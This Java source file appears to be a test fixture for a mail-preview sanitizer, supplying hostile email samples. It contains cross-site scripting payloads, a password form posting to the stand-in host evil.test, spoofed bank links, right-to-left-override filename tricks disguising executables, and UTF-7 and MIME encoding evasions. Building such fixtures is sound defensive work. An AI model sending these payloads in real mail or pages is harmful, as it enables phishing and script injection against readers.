package org.postern.preview;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/** Mail that tries to get at its reader. */
final class HostileMail {

    private static final String PAGE = """
            <!DOCTYPE html><html><head><title>x</title><base href="http://evil.test/a/"><meta http-equiv=refresh content="0; url=//evil.test">
            <style>p{background:url(http://evil.test)}</style><script>alert(1)</script></head><body onload=alert(1) bgcolor="#fff">
            <!-- <img src=x onerror=alert(1)> --><![CDATA[<script>alert(2)</script>]]>
            <svg/onload=alert(1)><a xlink:href="javascript:alert(1)"><text>svg</text></a><style><![CDATA[</style><img src=1>]]></style></svg>
            <p style="width:expression(alert(1))">Hello &lt;script&gt;alert(3)&lt;/script&gt; &amp;lt;img src=x&amp;gt; &#60;b&#x3E; &amp;#60;i></p>
            <template><b>t</b></template><noscript><img src=http://evil.test/n.gif alt="<script>">no</noscript>
            <div style="display:none">hidden words</div><font color=white>white</font><span style="font-size:0">tiny</span>
            <form action=http://evil.test/post><input type=password name=p placeholder="<b>"><button formaction=//evil.test/f>Go</button></form>
            <a href="java&#9;script:alert(1)">script</a> <a href="data:text/html,<script>1</script>">data</a> <a href="http://bank.test@evil.test/">bank.test</a>
            <a href=" http://evil.test/\u202eexe.cod"><b>www.bank.test</b></a><map><area href=http://evil.test/area></map><iframe srcdoc="<b>x" src=//evil.test></iframe>
            <table><tr><td>a<td>b<tr><td><table><td>c</table></table><ul><li>one<ol><li>two</ol></ul><blockquote>quote<pre> pre
              formatted</pre></blockquote><textarea></textarea></p></div></b><math><mtext></p><img src=x onerror=1>
            <unclosed attr="<x <y <!-- <a href='
            """;

    /** Pieces that are put into other mail at random places. */
    static final List<String> SCRAPS = List.of(
            "<script>",
            "</script>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "<svg onload=1>",
            "&lt;b&gt;",
            "&amp;lt;b>",
            "&#x26;lt;i",
            "<\u200bimg src=x>",
            "&#0;",
            "&#x202e;",
            "&zwj;",
            "<base href=javascript:1>",
            "\r\n\r\n",
            "\r\n--b\r\n",
            "Content-Type: text/html\r\n",
            "=3Cscript=3E",
            "=?utf-8?b?PHNjcmlwdD4=?=",
            "=?utf-8?q?=3Cb=3E=E2=80=AE?=",
            "+ADw-script+AD4-",
            "\u202e",
            "\u2066",
            "\ud83d",
            "<a href=x>",
            "<?php",
            "<%",
            "\u001b[31m",
            "<table>",
            "<template>");

    /** Whole messages; lines end with LF. */
    static final List<String> ALL = List.of(
            "From: A <a@evil.test>\nSubject: =?utf-8?b?" + base64("<script>\u202e\u0007</script>")
                    + "?= =?iso-8859-1?q?=3Cb=3E?=\nX-<b>: <i>\nContent-Type: text/html; charset=utf-8\n\n" + PAGE,
            "Content-Type: text/html; charset=UTF-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + PAGE,
            "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n" + base64(PAGE) + "\n",
            "Content-Type: text/html; charset=utf-16\nContent-Transfer-Encoding: base64\n\n"
                    + Base64.getMimeEncoder().encodeToString(PAGE.getBytes(StandardCharsets.UTF_16)) + "\n",
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
                    + "=C0=BCscript=C0=BE =E0=80=BCb> =ED=A0=80 =00 =1B[2J =E2=80=AEtxt.exe =F3=A0=81=81 <script>x</script> &lt;b>\n",
            "Content-Type: multipart/alternative; boundary=b\n\n--b\n\nplain <b>text</b> http://evil.test/?<script>.\n--b\nContent-Type: text/html\n\n"
                    + PAGE + "\n--b--\n",
            "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: message/rfc822\n\nSubject: <b>inner</b>\nContent-Type: multipart/related; boundary=c\n\n--c\n"
                    + "Content-Type: text/html\n\n" + PAGE
                    + "\n--c\nContent-Type: image/<b>; name=\"=?utf-8?q?=3Cb=3E=E2=80=AEgpj.exe?=\"\n\nMZ\n--c--\n--b\n"
                    + "Content-Type: application/zip; name*=utf-8''%3Cscript%3E%E2%80%AE.pdf.exe\nContent-Transfer-Encoding: base64\n\nUEsDBBQACQAAAAAAAAAA\n--b--\n",
            "Content-Type: multipart/mixed; boundary=\"\"\nNo colon <b>\n\n--\n\n<script>x</script>\n",
            "<html><body onload=x>no header at all</body></html>\n",
            "Content-Type: text/plain\n\n<<script>script>>> < b > <3 a<b &lt;&lt; &ltscript> &amp;amp;lt;b &#x0003c;i &#0060;u\n");

    private HostileMail() {}

    private static String base64(String text) {
        return Base64.getMimeEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
